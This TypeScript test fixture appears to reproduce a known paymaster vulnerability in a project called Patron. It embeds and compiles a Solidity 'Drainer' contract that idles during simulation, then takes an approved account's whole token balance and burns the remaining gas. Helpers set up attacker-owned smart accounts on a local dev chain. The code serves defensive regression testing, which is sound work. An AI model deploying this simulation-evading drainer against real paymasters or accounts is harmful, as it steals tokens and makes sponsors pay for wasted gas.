import { createRequire } from 'node:module';
import { toSimpleSmartAccount } from 'permissionless/accounts';
import {
  type Address,
  createPublicClient,
  custom,
  encodeFunctionData,
  erc20Abi,
  getAddress,
  type Hex,
  parseAbi,
  parseEther,
} from 'viem';
import { type SmartAccount, toSimple7702SmartAccount } from 'viem/account-abstraction';
import { privateKeyToAccount } from 'viem/accounts';
import { createDevClient, type DevClient, waitForSuccess } from '../../src/chain/devClient.js';
import type { EntryPointVersion } from '../../src/chain/entryPoints.js';
import { type PatronFixture, simpleAccountAbi, testKey } from './patronPaymasterV06.js';

/**
 * The token-mode attacker of issue 20 (hole 1), as it plays: its own contract, its own accounts and its own bundler.
 * `Drainer.run(token)` does nothing while Patron simulates (a gas price at or below its trigger, not armed) and
 * otherwise takes everything the calling account holds of the token (the account approved it) and burns the rest
 * of the call's gas. The accounts are ones the attacker owns: a SimpleAccount (v0.6, v0.7; deployed by its owner
 * calling the factory) or an EOA delegated to Simple7702Account (v0.8, v0.9). Compiled at test time with the
 * project's solc (no artifact kept), once per process.
 */
const SOURCE = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;
interface IERC20 {
  function balanceOf(address) external view returns (uint256);
  function transferFrom(address, address, uint256) external returns (bool);
}
contract Drainer {
  address public immutable attacker;
  uint256 public immutable trigger;
  mapping(address => bool) public armed;
  constructor(address attacker_, uint256 trigger_) { attacker = attacker_; trigger = trigger_; }
  function arm(address account) external { require(msg.sender == attacker, "not the attacker"); armed[account] = true; }
  function run(address token) external {
    if (!armed[msg.sender] && tx.gasprice <= trigger) return;
    IERC20(token).transferFrom(msg.sender, attacker, IERC20(token).balanceOf(msg.sender));
    while (gasleft() > 3000) {}
  }
}`;

export const drainerAbi = parseAbi([
  'constructor(address attacker, uint256 trigger)',
  'function arm(address account)',
  'function armed(address account) view returns (bool)',
  'function run(address token)',
]);

/** No gas price triggers it: only `arm`. */
export const ARM_ONLY = 2n ** 256n - 1n;

let compiled: Hex | undefined;

function bytecode(): Hex {
  if (compiled !== undefined) return compiled;
  const require = createRequire(import.meta.url);
  const solc = require('solc') as { compile(input: string): string };
  const output = JSON.parse(
    solc.compile(
      JSON.stringify({
        language: 'Solidity',
        sources: { 'Drainer.sol': { content: SOURCE } },
        settings: {
          optimizer: { enabled: true, runs: 200 },
          evmVersion: 'cancun',
          outputSelection: { '*': { '*': ['evm.bytecode.object'] } },
        },
      }),
    ),
  ) as {
    errors?: { severity: string; formattedMessage: string }[];
    contracts: Record<string, Record<string, { evm: { bytecode: { object: string } } }>>;
  };
  const errors = (output.errors ?? []).filter((e) => e.severity === 'error');
  if (errors.length > 0) throw new Error(errors.map((e) => e.formattedMessage).join('\n'));
  const object = output.contracts['Drainer.sol']?.Drainer?.evm.bytecode.object;
  if (object === undefined) throw new Error('solc produced no Drainer');
  compiled = `0x${object}`;
  return compiled;
}

/** Deploys a Drainer from the attacker's own key; `trigger` in wei per gas (ARM_ONLY: never by gas price). */
export async function deployDrainer(attacker: DevClient, trigger: bigint): Promise<Address> {
  const hash = await attacker.deployContract({
    abi: drainerAbi,
    bytecode: bytecode(),
    args: [attacker.account.address, trigger],
  });
  const receipt = await waitForSuccess(attacker, hash, 'Drainer deployment');
  if (receipt.contractAddress == null) throw new Error('no contract address');
  return getAddress(receipt.contractAddress);
}

/** The attacker's EOA: its bundler (submits handleOps, beneficiary of its own bundles) and the drained tokens' sink. */
export async function attackerBundler(fx: PatronFixture, label: string): Promise<DevClient> {
  const client = createDevClient({ chain: fx.chain, account: privateKeyToAccount(testKey(`attacker-${label}`)) });
  await fx.client.setBalance({ address: client.account.address, value: parseEther('100') });
  return client;
}

export interface AttackerAccount {
  readonly account: SmartAccount;
  readonly sender: Address;
  /** A transaction of the account's own (its owner calling it, or the delegated EOA itself), outside any op. */
  ownTransaction(to: Address, data: Hex): Promise<void>;
}

/**
 * A fresh account of the attacker for the version, deployed (or delegated) and holding ETH for its own
 * transactions, with no token and no allowance yet.
 */
export async function attackerAccount(args: {
  readonly fx: PatronFixture;
  readonly version: EntryPointVersion;
  readonly label: string;
  /** Sends the EIP-7702 delegation (v0.8, v0.9). */
  readonly bundler: DevClient;
}): Promise<AttackerAccount> {
  const { fx, version } = args;
  const owner = privateKeyToAccount(testKey(`attacker-account-${version}-${args.label}`));
  await fx.client.setBalance({ address: owner.address, value: parseEther('1') });
  const ownerClient = createDevClient({ chain: fx.chain, account: owner });
  const client = createPublicClient({ chain: fx.client.chain, transport: custom(fx.chain) });
  if (version === '0.6' || version === '0.7') {
    const account = await toSimpleSmartAccount({
      client,
      owner,
      entryPoint: { address: fx.entryPoints[version], version },
      ...(version === '0.6' ? { factoryAddress: fx.simpleAccountFactory } : {}),
    });
    // Anyone may call these factories: the owner deploys its account itself.
    const { factory, factoryData } = await account.getFactoryArgs();
    if (factory === undefined || factoryData === undefined) throw new Error('the account has no factory');
    await waitForSuccess(
      fx.client,
      await ownerClient.sendTransaction({ to: factory, data: factoryData }),
      'account deployment',
    );
    return {
      account,
      sender: account.address,
      async ownTransaction(to, data) {
        // SimpleAccount lets its owner call execute directly.
        const call = encodeFunctionData({ abi: simpleAccountAbi, functionName: 'execute', args: [to, 0n, data] });
        await waitForSuccess(fx.client, await ownerClient.sendTransaction({ to: account.address, data: call }), 'own');
      },
    };
  }
  const implementation = fx.simple7702Accounts[version];
  const authorization = await owner.signAuthorization({
    contractAddress: implementation,
    chainId: fx.chain.chainId,
    nonce: await fx.client.getTransactionCount({ address: owner.address }),
  });
  await waitForSuccess(
    fx.client,
    await args.bundler.sendTransaction({ to: owner.address, authorizationList: [authorization] }),
    'EIP-7702 delegation',
  );
  const account = await toSimple7702SmartAccount({ client, owner, entryPoint: version, implementation });
  return {
    account,
    sender: account.address,
    async ownTransaction(to, data) {
      await waitForSuccess(fx.client, await ownerClient.sendTransaction({ to, data }), 'own transaction');
    },
  };
}

export const approveCall = (spender: Address, amount: bigint): Hex =>
  encodeFunctionData({ abi: erc20Abi, functionName: 'approve', args: [spender, amount] });

export const transferCall = (to: Address, amount: bigint): Hex =>
  encodeFunctionData({ abi: erc20Abi, functionName: 'transfer', args: [to, amount] });

export const runCall = (token: Address): Hex =>
  encodeFunctionData({ abi: drainerAbi, functionName: 'run', args: [token] });
